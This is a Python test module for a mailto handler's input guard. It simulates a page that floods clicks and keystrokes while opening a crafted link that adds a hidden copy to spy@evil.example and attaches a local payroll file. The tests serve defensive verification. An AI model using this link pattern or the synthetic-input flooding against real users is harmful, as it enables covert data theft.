"""Input that never stops, on every desktop: the attack the sustained-input tests make
(sustained_*_test.py), and what they read back.

A page's game ("click as fast as you can!") keeps a person clicking or typing while it opens
LINK(file): a hidden copy to SPY and a file to attach. mailtokit's question appears under the
stream. The input guard of its window (handler/ask/input_guard.hpp) must let none of it act:
the mail program (the Desktop's recorder, given the draft by %f) gets nothing while the stream
goes on, and once it stops the question answers as usual, with the safe answer focused and no
file ticked. Each test runs the same attack a second time against the tests' broken twin of the
window, mailtokit-ask-no-restart (built with MAILTOKIT_TEST_GUARD_NO_RESTART: no input restarts
the guard's wait; named by $MAILTOKIT_TEST_ASK_NO_RESTART), and expects the hidden copy to reach
the mail program: the test can fail.

The streams (the person's input, at the rate the game asks for):
- clicks: every 100 ms, in turn on the file's check box and on "Open as it is", from before
  mailtokit starts until 3 s after the window has the focus;
- keys: from the moment the window has the focus until 3 s later, a burst every 150 ms, in turn
  Right Right space and Tab Tab space (from the safe button, each of them let through presses
  "Open as it is") and shift+Tab space (the focus back into the question, onto what space
  ticks or presses). A burst's keys go at once, so the broken window, which opens at one
  moment a second after it has the focus, takes a whole burst from the safe button.
Where the controls are drawn, whether they are usable and which has the focus come from the
accessibility bus (AT-SPI, read by /usr/bin/python3 as the session's user: under Wayland the
session's programs run as another user, whose bus root cannot join); the compositor's tree or
the X server tells when the window is mapped and focused. Nothing sleeps to wait for a state.
"""

from __future__ import annotations

import ctypes
import json
import os
import subprocess
import threading
import time
import urllib.parse
from pathlib import Path

from harness import titles
from harness.checks import Checks
from harness.desktop import Desktop, wait_exit
from harness.session import Failure, Session, default_button_drawn, wait_for

SPY = "spy@evil.example"
FRIEND = "friend@example.org"
FILE_NAME = "payroll-2026.pdf"
STREAM_AFTER_FOCUS = 3.0  # how long each stream goes on once the window has the focus (s)
CLICK_EVERY = 0.1
BURST_EVERY = 0.15
BURSTS = (("Right", "Right", "space"), ("Tab", "Tab", "space"), ("shift+Tab", "space"))
OPEN_AS_IT_IS = "Open as it is"
SAFE = "Open without the hidden copy"


def link(file: Path) -> str:
    return (f"mailto:{FRIEND}?bcc={SPY}&subject=Play%20again"
            f"&attach={urllib.parse.quote(str(file), safe='/')}")


def no_restart_ask() -> str:
    """The broken twin of mailtokit-ask the tests are shown to fail against."""
    path = os.environ.get("MAILTOKIT_TEST_ASK_NO_RESTART", "")
    if not os.access(path, os.X_OK):
        raise Failure(f"MAILTOKIT_TEST_ASK_NO_RESTART ({path!r}) names no built mailtokit-ask-no-restart "
                      "(handler/CMakeLists.txt builds it with the tests)")
    return path


# -- the accessibility bus -------------------------------------------------------------------

LAUNCHER = "/usr/libexec/at-spi-bus-launcher"

# Run by /usr/bin/python3 (python3-pyatspi) as the session's user: the showing buttons and check
# boxes of the newest application named argv[1], by name: role, box (x, y, width, height: on the
# screen, or in the window with argv[2] == "window") and state names.
_SNAPSHOT = r'''
import json, sys, pyatspi
want, coords = sys.argv[1], pyatspi.WINDOW_COORDS if sys.argv[2] == "window" else pyatspi.DESKTOP_COORDS
roles = {pyatspi.ROLE_PUSH_BUTTON: "button", pyatspi.ROLE_CHECK_BOX: "check box"}
def walk(n, depth=0):
    if n is None or depth > 40:
        return
    yield n
    try:
        count = n.childCount
    except Exception:
        return
    for i in range(count):
        try:
            child = n.getChildAtIndex(i)
        except Exception:
            continue
        yield from walk(child, depth + 1)
found = {}
desktop = pyatspi.Registry.getDesktop(0)
for i in range(desktop.childCount):
    try:
        app = desktop.getChildAtIndex(i)
        if app is None or app.name != want:
            continue
        now = {}
        for n in walk(app):
            role = roles.get(n.getRole())
            if role is None:
                continue
            st = sorted(pyatspi.stateToString(s) for s in n.getState().getStates())
            if "showing" not in st:
                continue
            e = n.queryComponent().getExtents(coords)
            now[n.name] = {"role": role, "box": [e.x, e.y, e.width, e.height], "states": st}
        if now:
            found = now
    except Exception:
        continue
print(json.dumps(found))
'''


def start_a11y(s: Session, timeout: float = 30) -> None:
    """The accessibility bus in `s`, on for every program the session starts from now on."""
    if not os.path.exists(LAUNCHER):
        raise Failure(f"{LAUNCHER} is missing (at-spi2-core; bash .ci/install-deps --test installs it)")
    if not os.path.exists("/usr/bin/python3") or subprocess.run(
            ["/usr/bin/python3", "-c", "import pyatspi"], capture_output=True).returncode != 0:
        raise Failure("pyatspi is not installed (python3-pyatspi; bash .ci/install-deps --test installs it)")
    s.env["NO_AT_BRIDGE"] = "0"
    s.env.pop("GTK_A11Y", None)
    s.env["GTK_MODULES"] = "gail:atk-bridge"
    s.spawn([LAUNCHER, "--launch-immediately"])

    def up():
        r = s.run(["dbus-send", "--session", "--print-reply", "--dest=org.a11y.Bus", "/org/a11y/bus",
                   "org.a11y.Bus.GetAddress"], check=False)
        return r.returncode == 0 and "unix:" in r.stdout
    wait_for(up, timeout, "the accessibility bus")


# -- the person's input ----------------------------------------------------------------------

class XInput:
    """A mouse and a keyboard on an X display through the XTEST extension (as xdotool), on one
    connection kept open: a click or a burst of keys costs no program start."""

    def __init__(self, display: str):
        self.x = ctypes.cdll.LoadLibrary("libX11.so.6")
        self.t = ctypes.cdll.LoadLibrary("libXtst.so.6")
        self.x.XOpenDisplay.restype = ctypes.c_void_p
        self.x.XOpenDisplay.argtypes = [ctypes.c_char_p]
        self.x.XStringToKeysym.restype = ctypes.c_ulong
        self.x.XStringToKeysym.argtypes = [ctypes.c_char_p]
        self.x.XKeysymToKeycode.restype = ctypes.c_ubyte
        self.x.XKeysymToKeycode.argtypes = [ctypes.c_void_p, ctypes.c_ulong]
        self.x.XSync.argtypes = [ctypes.c_void_p, ctypes.c_int]
        self.x.XCloseDisplay.argtypes = [ctypes.c_void_p]
        self.t.XTestFakeMotionEvent.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_ulong]
        self.t.XTestFakeButtonEvent.argtypes = [ctypes.c_void_p, ctypes.c_uint, ctypes.c_int, ctypes.c_ulong]
        self.t.XTestFakeKeyEvent.argtypes = [ctypes.c_void_p, ctypes.c_uint, ctypes.c_int, ctypes.c_ulong]
        self.dpy = self.x.XOpenDisplay(display.encode())
        if not self.dpy:
            raise Failure(f"cannot open display {display}")

    def _code(self, name: str) -> int:
        code = self.x.XKeysymToKeycode(self.dpy, self.x.XStringToKeysym(name.encode()))
        if not code:
            raise Failure(f"no key for {name!r}")
        return code

    def click(self, x: int, y: int) -> None:
        self.t.XTestFakeMotionEvent(self.dpy, -1, x, y, 0)
        self.t.XTestFakeButtonEvent(self.dpy, 1, 1, 0)
        self.t.XTestFakeButtonEvent(self.dpy, 1, 0, 0)
        self.x.XSync(self.dpy, 0)

    def keys(self, *names: str) -> None:
        """Each key (with modifiers before it: "shift+Tab") pressed and released, at once."""
        for name in names:
            *mods, key = name.split("+")
            held = [self._code({"shift": "Shift_L", "ctrl": "Control_L", "alt": "Alt_L"}[m]) for m in mods]
            for c in held:
                self.t.XTestFakeKeyEvent(self.dpy, c, 1, 0)
            c = self._code(key)
            self.t.XTestFakeKeyEvent(self.dpy, c, 1, 0)
            self.t.XTestFakeKeyEvent(self.dpy, c, 0, 0)
            for c in reversed(held):
                self.t.XTestFakeKeyEvent(self.dpy, c, 0, 0)
        self.x.XSync(self.dpy, 0)

    def close(self) -> None:
        if self.dpy:
            self.x.XCloseDisplay(self.dpy)
            self.dpy = None


class WlInput:
    """The virtual keyboard of a WaylandSession and a virtual pointer of its own
    (tests/gui/wayland/wl_pointer.c, named by $MAILTOKIT_WL_POINTER), each one client kept open."""

    def __init__(self, s):
        self.s = s
        path = os.environ.get("MAILTOKIT_WL_POINTER", "")
        if not os.access(path, os.X_OK):
            raise Failure(f"MAILTOKIT_WL_POINTER ({path!r}) names no built wl_pointer (the tests' CMake builds it)")
        self.p = s._popen([s.runnable(path), str(s.size[0]), str(s.size[1])], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE, stderr=open(s.root / "wl_pointer.log", "wb"), text=True)
        line = self.p.stdout.readline().strip()
        if line != "ready":
            raise Failure(f"wl_pointer did not start: {line!r} {(s.root / 'wl_pointer.log').read_text(errors='replace')}")

    def click(self, x: int, y: int) -> None:
        self.p.stdin.write(f"click {x} {y}\n")
        self.p.stdin.flush()
        line = self.p.stdout.readline().strip()
        if line != "ok":
            raise Failure(f"wl_pointer click {x} {y}: {line or 'ended'}")

    def keys(self, *names: str) -> None:
        self.s.key(*names)

    def close(self) -> None:
        if self.p.stdin:
            self.p.stdin.close()


class Stream(threading.Thread):
    """Input at a steady rate in a thread: the actions in turn, one every `every` seconds, until
    end_after()'s moment or `limit` seconds (whichever comes first). The rate is the person's:
    the pauses between inputs are the stream itself, not a wait for a state."""

    def __init__(self, actions, every: float, limit: float = 60):
        super().__init__(daemon=True)
        self.actions, self.every, self.limit = list(actions), every, limit
        self.until: float | None = None
        self.count = 0
        self.error: BaseException | None = None
        self._stop_now = threading.Event()

    def end_after(self, seconds: float) -> None:
        self.until = time.monotonic() + seconds

    def run(self) -> None:
        start = nxt = time.monotonic()
        try:
            while not self._stop_now.is_set():
                now = time.monotonic()
                if (self.until is not None and now >= self.until) or now >= start + self.limit:
                    return
                self.actions[self.count % len(self.actions)]()
                self.count += 1
                nxt += self.every
                self._stop_now.wait(max(0.0, nxt - time.monotonic()))
        except BaseException as e:  # noqa: BLE001 (handed to the main thread by finish())
            self.error = e

    def finish(self) -> int:
        """Wait for the stream's end; the number of inputs it sent."""
        self.join(self.limit + 30)
        if self.error is not None:
            raise Failure(f"the input stream failed: {self.error}")
        return self.count

    def stop(self) -> None:
        self._stop_now.set()


# -- the desktops ----------------------------------------------------------------------------

class X11Desk:
    """mailtokit's question on an X display: without a window manager (the test gives the
    window the focus, as one would) or with one (mutter: the test waits for it to)."""

    def __init__(self, s: Session, wm: bool):
        self.s, self.wm = s, wm
        self.input = XInput(s.display)

    def question(self, timeout: float = 30) -> str:
        """The question's window once it is mapped and has the keyboard focus."""
        win = self.s.wait_window(titles.QUESTION, timeout=timeout)
        if not self.wm:
            self.s.run(["xdotool", "windowfocus", "--sync", win], check=False)
        wait_for(lambda: self.s.run(["xdotool", "getwindowfocus"], check=False).stdout.strip() == win, timeout,
                 "the question to have the keyboard focus", interval=0.05)
        return win

    def gone(self, timeout: float = 30) -> None:
        self.s.wait_window(titles.QUESTION, timeout=timeout, gone=True)

    def controls(self) -> dict:
        """The question's buttons and check boxes: name -> role, centre on the screen, states."""
        r = self.s.run(["/usr/bin/python3", "-c", _SNAPSHOT, "mailtokit-ask", "desktop"], check=False)
        return _centred(r, 0, 0)

    def screenshot(self, path: Path) -> None:
        self.s.screenshot(path)


class ScreenDesk(X11Desk):
    """The question when it is not on the accessibility bus: started by Chromium, which puts
    NO_AT_BRIDGE=1 in its children's environment. Its three buttons are found on the screen
    (harness.session.buttons: left to right, the safe one, Cancel, "Open as it is"), usable once
    the default button is drawn in its colour; which has the focus cannot be read, so Return
    giving the safe answer is what shows it."""

    reads_focus = False

    def controls(self) -> dict:
        wins = self.s.windows(titles.QUESTION)
        if not wins:
            return {}
        found = self._buttons(wins[-1])
        if len(found) != 3:
            return {}
        states = {"sensitive"} if default_button_drawn(self.s, wins[-1]) else set()
        return {name: {"role": "button", "at": at, "states": states}
                for name, at in zip((SAFE, "Cancel", OPEN_AS_IT_IS), found)}

    def _buttons(self, win: str) -> list[tuple[int, int]]:
        """The centres of the buttons in the window's bottom row, left to right, on the screen.
        Along a line through the buttons above their labels, a button is two thin dark borders at
        least 40 pixels apart, or one dark run that long (the default button, filled with its
        colour once usable); between two buttons less than 16 pixels."""
        info = self.s.run(["xwininfo", "-id", win], check=False).stdout
        field = {k.strip(): v.strip() for k, _, v in (line.partition(":") for line in info.splitlines())}
        try:
            x0, y0 = int(field["Absolute upper-left X"]), int(field["Absolute upper-left Y"])
            w, h = int(field["Width"]), int(field["Height"])
        except (KeyError, ValueError):
            return []
        rows = min(h, 70)
        rgb = subprocess.run(["import", "-display", self.s.display, "-window", win, "-crop", f"{w}x{rows}+0+{h - rows}",
                              "-depth", "8", "rgb:-"], env=self.s.env, capture_output=True, timeout=30).stdout
        if len(rgb) < w * rows * 3:
            return []
        for r in range(rows - 8, 0, -1):
            line = rgb[r * w * 3:(r + 1) * w * 3]
            dark = [i for i in range(w) if sum(line[3 * i:3 * i + 3]) / 3 < 215]
            runs: list[list[int]] = []
            for i in dark:
                if runs and i == runs[-1][1] + 1:
                    runs[-1][1] = i
                else:
                    runs.append([i, i])
            found, k = [], 0
            while k < len(runs):
                a, b = runs[k]
                if b - a >= 40:
                    found.append((a, b))
                    k += 1
                elif b - a <= 2 and k + 1 < len(runs) and 40 <= runs[k + 1][0] - a <= 500 and runs[k + 1][1] - runs[k + 1][0] <= 2:
                    found.append((a, runs[k + 1][1]))
                    k += 2
                else:
                    found = []
                    break
            if found and all(0 < c - b < 16 for (_, b), (c, _) in zip(found, found[1:])):
                return [(x0 + (a + b) // 2, y0 + h - rows + r) for a, b in found]
        return []


class SwayDesk:
    """mailtokit's question under sway (harness.wayland.WaylandSession)."""

    def __init__(self, s):
        self.s = s
        self.input = WlInput(s)
        self.view: dict = {}

    def question(self, timeout: float = 30) -> dict:
        self.view = self.s.wait_view(titles.QUESTION, focused=True, timeout=timeout, interval=0.05)
        return self.view

    def gone(self, timeout: float = 30) -> None:
        self.s.wait_view(titles.QUESTION, gone=True, timeout=timeout)

    def controls(self) -> dict:
        v = self.s.view(titles.QUESTION) or self.view
        r = self.s.run(["/usr/bin/python3", "-c", _SNAPSHOT, "mailtokit-ask", "window"], check=False)
        # GTK under Wayland knows only where it is in its own window: sway's tree says where the
        # window's content is in the layout.
        return _centred(r, v["rect"]["x"] + v["window_rect"]["x"], v["rect"]["y"] + v["window_rect"]["y"])

    def screenshot(self, path: Path) -> None:
        self.s.screenshot(path)


def _centred(r: subprocess.CompletedProcess, dx: int, dy: int) -> dict:
    if r.returncode != 0:
        raise Failure(f"reading the accessibility bus failed: {str(r.stderr).strip()[-600:]}")
    out = {}
    for name, c in json.loads(r.stdout or "{}").items():
        x, y, w, h = c["box"]
        out[name] = {"role": c["role"], "at": (dx + x + w // 2, dy + y + h // 2), "states": set(c["states"])}
    return out


# -- the attack --------------------------------------------------------------------------------

class Attack:
    """The sustained-input attack on one desktop, against the real window and its broken twin."""

    def __init__(self, desk, d: Desktop, results: Path, name: str, checks: Checks):
        self.desk, self.d, self.results, self.name, self.checks = desk, d, results, name, checks
        docs = d.s.home / "Documents"
        docs.mkdir(exist_ok=True)
        self.file = docs / FILE_NAME
        self.file.write_text("the payroll of 2026: not for the page\n")
        self.link = link(self.file)
        d.write_config(f'target = custom\ncommand = "{d.recorder}" %f\nnotify = no\n')
        if hasattr(d.s, "give"):
            d.s.give()
        self.box_at = self.open_at = (0, 0)
        self.box_names: list[str] = []
        self.broken = no_restart_ask()
        if hasattr(d.s, "runnable"):
            self.broken = d.s.runnable(self.broken)

    def check(self, ok, what: str) -> bool:
        return self.checks.check(ok, f"{self.name}: {what}")

    def handed(self) -> list[str]:
        """The drafts the mail program was given (their text)."""
        out = []
        for argv in self.d.recorded("recorder"):
            try:
                out.append(Path(argv[-1]).read_text("utf-8", "replace"))
            except OSError as e:
                out.append(f"(unreadable draft {argv[-1]}: {e})")
        return out

    @staticmethod
    def summary(drafts: list[str]) -> str:
        if not drafts:
            return "nothing"
        return "; ".join(("hidden copy" if SPY in t else "no hidden copy") + ", "
                         + ("the file attached" if FILE_NAME in t else "no file") for t in drafts)

    def learn(self) -> None:
        """Where "Open as it is" and the file's check box are drawn: the question asked once and
        cancelled (the page, too, knows where the window will be: it is centred, and its size
        follows from the link)."""
        self.d.clear()
        p, _ = self.d.start(["open", self.link])
        self.desk.question()
        last: dict = {}

        def settled():
            # Both in place, and where the previous look saw them (a compositor may still move
            # the window or add its title bar just after mapping it).
            c = self.desk.controls()
            where = {n: v["at"] for n, v in c.items()}
            ok = OPEN_AS_IT_IS in c and any(v["role"] == "check box" for v in c.values()) and where == last
            last.clear()
            last.update(where)
            return c if ok else None
        c = wait_for(settled, 30, "the question's buttons and check box, in place", interval=0.1)
        buttons = [n for n, v in c.items() if v["role"] == "button"]
        boxes = [n for n, v in c.items() if v["role"] == "check box"]
        self.check(SAFE in buttons and "Cancel" in buttons and len(boxes) == 1 and FILE_NAME in boxes[0],
                   f"the question offers the file unticked beside its three answers: buttons {buttons}, boxes {boxes}")
        self.open_at, self.box_at, self.box_names = c[OPEN_AS_IT_IS]["at"], c[boxes[0]]["at"], boxes
        print(f"     {self.name}: 'Open as it is' at {self.open_at}, the file's check box at {self.box_at}")
        self.desk.input.keys("Escape")
        wait_exit(p, 30, "Escape")
        self.desk.gone()

    def _wait_usable(self) -> dict:
        """The controls once usable and, where the focus can be read, once a control has it: the
        window makes its controls sensitive, then gives the safe button the focus, and the
        accessibility bus may tell the one before the other."""
        reads_focus = getattr(self.desk, "reads_focus", True)

        def usable():
            c = self.desk.controls()
            ok = "sensitive" in c.get(OPEN_AS_IT_IS, {}).get("states", ()) and (
                not reads_focus or any("focused" in v["states"] for v in c.values()))
            return c if ok else None
        return wait_for(usable, 30, "the question to become usable with a control focused", interval=0.1)

    def _after_stream(self, p, what: str, sent: int, broken: bool, shot: str, aimed: dict | None = None) -> None:
        drafts = self.handed()
        if broken:
            # The broken twin lets the stream act: the question is answered while it goes on.
            try:
                wait_for(lambda: self.d.recorded("recorder") or p.poll() is not None, 20,
                         "the broken window to answer")
            except Failure:
                pass
            drafts = self.handed()
            self.check(any(SPY in t for t in drafts),
                       f"with the guard's restart off (mailtokit-ask-no-restart), {what} ({sent} inputs) got the hidden "
                       f"copy through: the test can fail (the mail program got: {self.summary(drafts)})")
            if p.poll() is None:
                self.desk.input.keys("Escape")
            wait_exit(p, 30, "the broken window's end")
            self.desk.gone()
            return
        self.check(p.poll() is None and not drafts,
                   f"{what} ({sent} inputs) answered nothing: the question is still open (mail program got: "
                   f"{self.summary(drafts)})")
        if p.poll() is not None:
            return
        c = self._wait_usable()
        for name, at in (aimed or {}).items():
            self.check(c.get(name, {}).get("at") == at, f"the stream was aimed at {name!r} where it is drawn "
                       f"({at}; drawn at {c.get(name, {}).get('at')})")
        if getattr(self.desk, "reads_focus", True):
            focused = [n for n, v in c.items() if "focused" in v["states"]]
            ticked = [n for n, v in c.items() if "checked" in v["states"]]
            self.check(focused == [SAFE] and not ticked,
                       f"once the stream stopped, the safe button has the focus ({focused}) and no file is ticked "
                       f"({ticked})")
        self.desk.screenshot(self.results / shot)
        self.desk.input.keys("Return")
        rc = wait_exit(p, 30, "Return after the stream")
        drafts = self.handed()
        self.check(rc == 0 and len(drafts) == 1 and FRIEND in drafts[0] and SPY not in drafts[0]
                   and FILE_NAME not in drafts[0],
                   f"Return then gives the safe answer: the message to {FRIEND} without the hidden copy or the file "
                   f"(exit {rc}; the mail program got: {self.summary(drafts)})")
        self.desk.gone()

    def clicks(self, broken: bool = False) -> None:
        """Clicks every 100 ms, in turn on the file's check box and "Open as it is", from before
        mailtokit starts until 3 s after its window has the focus."""
        self.d.clear()
        box, opn = self.box_at, self.open_at
        stream = Stream([lambda: self.desk.input.click(*box), lambda: self.desk.input.click(*opn)], CLICK_EVERY)
        stream.start()
        try:
            p, _ = self.d.start(["open", self.link], env={"MAILTOKIT_ASK": self.broken} if broken else None)
            self.desk.question()
            stream.end_after(STREAM_AFTER_FOCUS)
            sent = stream.finish()
        finally:
            stream.stop()
        box_name = self.box_names[0]
        self._after_stream(p, "the clicks on the check box and 'Open as it is'", sent, broken,
                           f"sustained_{self.name}_clicks.png", {OPEN_AS_IT_IS: opn, box_name: box})

    def keys(self, broken: bool = False) -> None:
        """From the moment the window has the focus, bursts of keys every 150 ms for 3 s."""
        self.d.clear()
        p, _ = self.d.start(["open", self.link], env={"MAILTOKIT_ASK": self.broken} if broken else None)
        self.desk.question()
        stream = Stream([lambda b=b: self.desk.input.keys(*b) for b in BURSTS], BURST_EVERY)
        stream.end_after(STREAM_AFTER_FOCUS)
        stream.start()
        sent = stream.finish()
        self._after_stream(p, "Right Right space, Tab Tab space and shift+Tab space", sent, broken,
                           f"sustained_{self.name}_keys.png")

    def all(self) -> None:
        started = time.monotonic()
        self.learn()
        self.clicks()
        self.keys()
        self.clicks(broken=True)
        self.keys(broken=True)
        print(f"     {self.name}: run time {time.monotonic() - started:.0f} s")
